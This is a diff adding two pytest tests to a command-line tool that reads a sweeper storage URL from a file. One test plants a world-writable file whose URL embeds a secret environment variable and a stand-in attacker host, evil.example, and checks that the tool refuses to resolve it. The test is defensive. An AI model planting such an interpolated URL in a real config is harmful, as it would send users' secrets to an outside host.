@@ -138,6 +138,29 @@ def test_a_storage_that_cannot_be_read_from_the_last_search_is_told(in_database:
     assert not (tmp_path / "gone.db").exists()
 
 
+def test_a_file_of_others_looks_nothing_up(in_database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whoever may write it could have a secret of ours sent to a host of theirs; what stands there is used."""
+    monkeypatch.setenv("MY_SECRET", "hunter2")
+    _keep(in_database, "postgresql://u:${oc.env:MY_SECRET}@evil.example/db", tmp_path)
+    in_database.chmod(0o777)
+    refusal = _refusal("status", str(in_database))
+    assert "hunter2" not in refusal
+    assert "hydra.sweeper.storage is postgresql://u:${oc.env:MY_SECRET}@evil.example/db" in refusal
+    assert f"because {in_database} may be written by other users (mode 777): give --storage" in refusal
+    _keep(in_database, "sqlite:///all.db", tmp_path)
+    cli.main(["status", str(in_database)])
+
+
+def test_an_own_file_may_name_a_variable(
+    in_database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """So a URL with a password need not be given again."""
+    monkeypatch.setenv("STUDIES", "sqlite:///all.db")
+    _keep(in_database, "${oc.env:STUDIES}", tmp_path)
+    cli.main(["status", str(in_database)])
+    assert "rain" in capsys.readouterr().out
+
+
 def test_a_misspelt_command_is_told_all_that_there_are(capsys: pytest.CaptureFixture[str]) -> None:
     """Those that others read too."""
     with pytest.raises(SystemExit) as error:
